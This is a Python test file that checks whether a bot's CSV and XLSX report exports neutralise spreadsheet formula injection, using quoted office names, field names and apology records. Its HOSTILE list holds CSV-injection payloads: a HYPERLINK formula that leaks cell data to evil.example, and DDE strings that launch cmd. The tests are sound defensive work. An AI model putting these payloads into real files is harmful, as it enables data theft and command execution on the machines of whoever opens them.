"""Issue 15: every CSV and XLSX the bot writes is safe to open (OWASP CSV injection): a cell that
starts with =, +, -, @, tab or carriage return is text, quoted, never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from core.apologies import Apology
from core.catalogue.models import LawVersion
from core.cell_safety import neutralise
from core.report import ReportData, build_report
from core.report_files import report_csv, report_xlsx
from handlers.apologies import apologies_csv
from handlers.context import Services
from tests.dossier_fixtures import dossier
from tests.test_report import APOLOGIES_IN_Q3, Q3, ROWS, TODAY

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_ordinary_values_are_left_alone() -> None:
    assert neutralise("Hộ tịch") == "Hộ tịch"
    assert neutralise(-3) == -3 and neutralise(0.5) == 0.5 and neutralise(None) is None


def test_the_report_table_quotes_hostile_office_and_field_names() -> None:
    """The office's name (commune.yaml) and field names (the catalogue) are officers' text."""
    fields = {"ht": HOSTILE[2], "ct": HOSTILE[3]}
    report = build_report(ReportData(ROWS, APOLOGIES_IN_Q3), Q3, TODAY, fields.get)
    book = load_workbook(io.BytesIO(report_xlsx(report, HOSTILE[0])))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]  # type: ignore[union-attr]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[2] in texts and "'" + HOSTILE[3] in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert any(isinstance(c.value, int) for c in cells)  # the figures stay numbers

    lines = list(csv.reader(io.StringIO(report_csv(report, HOSTILE[1]).decode("utf-8-sig"))))
    flat = [cell for line in lines for cell in line]
    assert "'" + HOSTILE[1] in flat and "'" + HOSTILE[2] in flat
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in flat)


async def test_the_apologies_list_quotes_a_hostile_reason_and_issuer(services: Services) -> None:
    item = dossier()
    apology = Apology(
        id=1,
        code_key=item.code_key,
        number="01/VBXL",
        issued_at=dt.datetime(2026, 11, 20, 9, 0),
        issued_by="900",
        issuer_name=HOSTILE[4],
        reason=HOSTILE[0],
        old_due=dt.date(2026, 11, 19),
        new_due=dt.date(2026, 11, 26),
        law_version=LawVersion.TT_01_2018,
    )
    file = apologies_csv(
        services, [apology], {item.code_key: item}, dt.date(2026, 11, 1), dt.date(2026, 11, 30)
    )
    rows = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"))))
    assert rows[1][4] == "'" + HOSTILE[0] and rows[1][7] == "'" + HOSTILE[4]
